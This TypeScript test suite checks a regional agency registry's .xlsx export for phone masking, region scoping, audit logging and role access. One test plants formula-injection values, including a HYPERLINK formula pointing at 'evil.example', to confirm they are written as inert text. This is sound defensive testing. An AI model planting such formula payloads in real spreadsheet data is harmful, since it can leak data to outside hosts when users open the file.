// The agencies export: a real .xlsx (read back with exceljs), phones masked, only rows in the
// caller's scope, and cells a spreadsheet would run as formulas neutralised.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../test/helpers/app.ts';
import { agencyInput, unique } from '../../../../test/helpers/factories.ts';

let t: TestApp;
let wh: string;
let km: string;
let prov: string;

beforeAll(async () => {
  t = await createTestApp();
  [wh, km, prov] = await Promise.all([t.login('wh'), t.login('km'), t.login('prov')]);
});
afterAll(() => t.close());

type Sheet = { header: string[]; rows: Record<string, ExcelJS.Cell>[] };

async function download(url: string, cookie: string): Promise<Sheet> {
  const res = await t.get(url, cookie);
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename=".*\.xlsx"; filename\*=UTF-8''/);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  if (!ws) throw new Error('no sheet');
  const header: string[] = [];
  ws.getRow(1).eachCell((c, i) => {
    header[i - 1] = String(c.value);
  });
  const rows: Record<string, ExcelJS.Cell>[] = [];
  ws.eachRow((row, n) => {
    if (n === 1) return;
    rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1)])));
  });
  return { header, rows };
}

const text = (c: ExcelJS.Cell | undefined) => String(c?.value ?? '');

async function create(cookie: string, input: object) {
  const res = await t.send('POST', '/api/v1/agencies', input, cookie);
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as { id: number };
}

describe('agencies export (.xlsx)', () => {
  it('downloads a workbook of the county\'s agencies, phones masked', async () => {
    const token = `导出${unique()}`;
    const mine = { ...agencyInput('530102'), name: `${token}五华` };
    await create(wh, mine);
    await create(km, { ...agencyInput('530103'), name: `${token}盘龙` });
    await create(prov, { ...agencyInput('530302'), name: `${token}麒麟` });

    const sheet = await download('/api/v1/agencies/export.xlsx', wh);
    expect(sheet.header).toEqual(['机构名称', '类型', '所在地', '行政区划代码', '许可证或备案编号', '统一社会信用代码', '地址', '负责人', '负责人电话', '员工数', '状态']);
    expect(sheet.rows.length).toBeGreaterThan(0);
    for (const r of sheet.rows) {
      expect(text(r['行政区划代码'])).toBe('530102');
      expect(text(r['负责人电话'])).toMatch(/^1\d{2}\*{4}\d{4}$/);
    }
    const row = sheet.rows.find((r) => text(r['机构名称']) === mine.name);
    expect(row).toBeDefined();
    expect(text(row?.['负责人电话'])).toBe(`${mine.responsiblePhone.slice(0, 3)}****${mine.responsiblePhone.slice(-4)}`);
    expect(text(row?.['统一社会信用代码'])).toBe(mine.creditCode);
    expect(text(row?.['所在地'])).toBe('五华区');
    expect(sheet.rows.some((r) => text(r['机构名称']).startsWith(token) && text(r['机构名称']) !== mine.name)).toBe(false);
    // the demo agency with its four staff is counted
    const demo = sheet.rows.find((r) => text(r['机构名称']) === '昆明五华人力资源服务有限公司');
    expect(Number(demo?.['员工数']?.value)).toBeGreaterThanOrEqual(4);
  });

  it('a prefecture gets its counties and none of another prefecture; filters apply', async () => {
    const token = `导出${unique()}`;
    await create(km, { ...agencyInput('530103'), name: `${token}甲`, kind: 'public' });
    await create(km, { ...agencyInput('530112'), name: `${token}乙` });
    await create(prov, { ...agencyInput('530302'), name: `${token}丙` });
    const all = await download('/api/v1/agencies/export.xlsx', km);
    for (const r of all.rows) expect(text(r['行政区划代码'])).toMatch(/^5301\d\d$/);
    const filtered = await download(`/api/v1/agencies/export.xlsx?q=${encodeURIComponent(token)}&kind=public`, km);
    expect(filtered.rows.map((r) => text(r['机构名称']))).toEqual([`${token}甲`]);
    expect(text(filtered.rows[0]?.['类型'])).toBe('公共');
    const outside = await download(`/api/v1/agencies/export.xlsx?division=5303`, km);
    expect(outside.rows).toEqual([]);
  });

  it('cells starting with = + - @ are written as text, not formulas', async () => {
    const token = `注入${unique()}`;
    const input = {
      ...agencyInput('530102'),
      name: `=HYPERLINK("http://evil.example/?${token}","点击")`,
      address: `+1+2 ${token}`,
      responsiblePerson: '@SUM(A1)',
      licenceNo: `-2+3 ${token}`,
    };
    await create(wh, input);
    const sheet = await download(`/api/v1/agencies/export.xlsx?q=${encodeURIComponent(token)}`, wh);
    expect(sheet.rows).toHaveLength(1);
    const r = sheet.rows[0] as Record<string, ExcelJS.Cell>;
    for (const [col, value] of [['机构名称', input.name], ['地址', input.address], ['负责人', input.responsiblePerson], ['许可证或备案编号', input.licenceNo]] as const) {
      const cell = r[col] as ExcelJS.Cell;
      expect(cell.type, col).toBe(ExcelJS.ValueType.String);
      expect(cell.value, col).toBe(`'${value}`);
      expect(cell.formula, col).toBeFalsy();
    }
  });

  it('is audited, and closed to agency and employer roles', async () => {
    const before = await t.deps.db
      .selectFrom('audit_log')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('division_code', '=', '530102')
      .where('action', '=', 'registry.agency.export')
      .where('actor_username', '=', 'wh')
      .executeTakeFirstOrThrow();
    await download('/api/v1/agencies/export.xlsx', wh);
    const after = await t.deps.db
      .selectFrom('audit_log')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('division_code', '=', '530102')
      .where('action', '=', 'registry.agency.export')
      .where('actor_username', '=', 'wh')
      .executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n) + 1);
    for (const who of ['agency-wh', 'employer-km']) {
      const res = await t.get('/api/v1/agencies/export.xlsx', await t.login(who));
      expect(res.statusCode, who).toBe(403);
    }
  });
});
